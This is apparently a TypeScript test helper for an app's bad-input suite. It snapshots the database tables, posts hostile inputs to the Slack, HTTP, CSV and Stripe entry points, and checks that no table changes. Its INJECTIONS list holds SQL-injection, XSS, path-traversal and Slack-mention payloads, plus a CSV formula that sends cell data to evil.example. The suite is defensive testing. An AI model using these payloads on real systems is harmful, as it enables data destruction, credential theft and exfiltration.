import { request } from "node:http";
import { expect } from "vitest";
import type { Database } from "../../src/data/database.js";
import { RATE_LIMIT_TABLE } from "../../src/data/rate-limits.js";

// The bad-input suite's machinery: a case is one hostile input to one entry point; running it
// snapshots every table (found through information_schema, so tables added later are covered),
// sends the input, and checks that nothing changed, or, for free text legitimately accepted,
// exactly the rows it declared. Every case's outcome is recorded for the report. The API's rate
// limit table (PostgreSQL) is left out: it counts every authenticated request, whatever its body.

export type EntryPoint =
  | "Slack /slack/events"
  | "Slack OAuth redirect"
  | "HTTP API"
  | "CSV import"
  | "Stripe webhook";

/** Rows a case legitimately adds, per table (only for input accepted as plain text). */
export type Added = Record<string, number>;

export interface BadCase<Env> {
  entry: EntryPoint;
  category: string;
  name: string;
  /** Sends the input and checks the answer; returns the rows it may add, or nothing if none. */
  run(env: Env): Promise<Added | undefined>;
}

export const ACCEPTED_AS_TEXT = "injection: accepted as plain text";

export interface Outcome {
  entry: EntryPoint;
  category: string;
  name: string;
  database: string;
  passed: boolean;
}

/** Table → "rows:md5 of every row", so an UPDATE shows as well as an INSERT. */
export type Snapshot = Record<string, { rows: number; digest: string }>;

const tableNames = new WeakMap<Database, Promise<string[]>>();

function tablesOf(db: Database): Promise<string[]> {
  let names = tableNames.get(db);
  if (!names) {
    names = db.prisma
      .$queryRawUnsafe<Array<{ name: string }>>(
        `SELECT table_name AS name FROM information_schema.tables
          WHERE table_schema = current_schema() AND table_type = 'BASE TABLE' AND table_name <> $1
          ORDER BY table_name`,
        RATE_LIMIT_TABLE,
      )
      .then((rows) => rows.map((r) => r.name));
    tableNames.set(db, names);
  }
  return names;
}

export async function snapshot(db: Database): Promise<Snapshot> {
  const tables = await tablesOf(db);
  const sql = tables
    .map(
      (t) =>
        `SELECT '${t}' AS t, count(*)::int AS n, md5(coalesce(string_agg(x::text, '|' ORDER BY x::text), '')) AS h FROM "${t}" x`,
    )
    .join(" UNION ALL ");
  const rows = await db.prisma.$queryRawUnsafe<Array<{ t: string; n: number; h: string }>>(sql);
  return Object.fromEntries(rows.map((r) => [r.t, { rows: r.n, digest: r.h }]));
}

/** Nothing changed, or only the declared tables grew by exactly the declared rows. */
export function expectOnly(before: Snapshot, after: Snapshot, added: Added = {}): void {
  expect(Object.keys(after).sort()).toEqual(Object.keys(before).sort());
  for (const t of Object.keys(added)) expect(Object.keys(before), `unknown table ${t}`).toContain(t);
  const changed: Record<string, string> = {};
  for (const [t, b] of Object.entries(before)) {
    const a = after[t] ?? { rows: -1, digest: "" };
    const grew = a.rows - b.rows;
    if (t in added) {
      if (grew !== added[t]) changed[t] = `${grew >= 0 ? "+" : ""}${grew} rows (expected +${added[t]})`;
    } else if (a.rows !== b.rows || a.digest !== b.digest) {
      changed[t] = grew === 0 ? "rows changed in place" : `${grew >= 0 ? "+" : ""}${grew} rows`;
    }
  }
  expect(changed, "tables changed by a bad input").toEqual({});
}

export function createRecorder() {
  const outcomes: Outcome[] = [];
  return {
    outcomes,
    /** Runs a case against a database, checking what changed, and records whether it passed. */
    async run<Env>(
      c: BadCase<Env>,
      env: Env,
      db: Database | ((when: "before" | "after") => Promise<Snapshot>),
      database: string,
    ): Promise<void> {
      const snap = typeof db === "function" ? db : () => snapshot(db);
      let passed = false;
      try {
        const before = await snap("before");
        const added = await c.run(env);
        expectOnly(before, await snap("after"), added);
        passed = true;
      } finally {
        outcomes.push({ entry: c.entry, category: c.category, name: c.name, database, passed });
      }
    },
  };
}

/** The summary: one row per entry point and category, then the totals. */
export function renderReport(outcomes: readonly Outcome[]): string {
  const rows = new Map<string, { entry: string; category: string; tried: number; passed: number }>();
  for (const o of outcomes) {
    const key = `${o.entry}\u0000${o.category}`;
    const row = rows.get(key) ?? { entry: o.entry, category: o.category, tried: 0, passed: 0 };
    row.tried++;
    if (o.passed) row.passed++;
    rows.set(key, row);
  }
  const sorted = [...rows.values()].sort(
    (a, b) => a.entry.localeCompare(b.entry) || a.category.localeCompare(b.category),
  );
  const passed = outcomes.filter((o) => o.passed).length;
  const databases = [...new Set(outcomes.map((o) => o.database))].join(", ");
  const failed = outcomes.filter((o) => !o.passed);
  return [
    "| Entry point | Category | Tried | Passed |",
    "| --- | --- | ---: | ---: |",
    ...sorted.map((r) => `| ${r.entry} | ${r.category} | ${r.tried} | ${r.passed} |`),
    "",
    `Databases: ${databases || "none"}.`,
    ...(failed.length
      ? ["", "Failed:", ...failed.map((o) => `- ${o.entry} / ${o.category}: ${o.name} (${o.database})`)]
      : []),
    "",
    `Bad-input suite: ${outcomes.length} cases tried, ${passed} passed`,
  ].join("\n");
}

export interface RawResponse {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  text: string;
  json: Record<string, unknown> | undefined;
}

/**
 * POSTs exactly these bytes (fetch would re-encode strings and always send a length). `chunked`
 * sends the body in pieces without Content-Length, as a client streaming a large body would.
 */
export function rawPost(
  port: number,
  path: string,
  body: string | Buffer,
  headers: Record<string, string>,
  opts: { chunked?: boolean; method?: string } = {},
): Promise<RawResponse> {
  const bytes = typeof body === "string" ? Buffer.from(body, "utf8") : body;
  return new Promise((resolve, reject) => {
    const req = request(
      {
        host: "127.0.0.1",
        port,
        path,
        method: opts.method ?? "POST",
        headers: opts.chunked ? headers : { ...headers, "content-length": String(bytes.length) },
      },
      (res) => {
        const chunks: Buffer[] = [];
        res.on("data", (c: Buffer) => chunks.push(c));
        res.on("end", () => {
          const text = Buffer.concat(chunks).toString("utf8");
          let json: Record<string, unknown> | undefined;
          try {
            json = JSON.parse(text) as Record<string, unknown>;
          } catch {
            json = undefined;
          }
          resolve({ status: res.statusCode ?? 0, headers: res.headers, text, json });
        });
        res.on("error", reject);
      },
    );
    // A server that refuses a large body early may close before everything is written.
    req.on("error", (error: NodeJS.ErrnoException) => {
      if (error.code !== "EPIPE" && error.code !== "ECONNRESET") reject(error);
    });
    if (opts.chunked) {
      const size = 64 * 1024;
      for (let i = 0; i < bytes.length; i += size) req.write(bytes.subarray(i, i + size));
      req.end();
    } else req.end(bytes);
  });
}

/** The hostile strings every free-text field is tried with. */
export const INJECTIONS = {
  SQL: "x'); DROP TABLE customer_movement; --",
  "SQL union": "' OR 1=1 UNION SELECT secret_hash FROM api_token --",
  "script/HTML": '<script>alert("x")</script><img src=x onerror=alert(1)>',
  "Slack mention": "<!channel> <!here|here> <@U0ADMIN> <#C0001>",
  "CSV formula": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "path traversal": "../../../../etc/passwd",
} as const;

export const NUL = "before\u0000after";
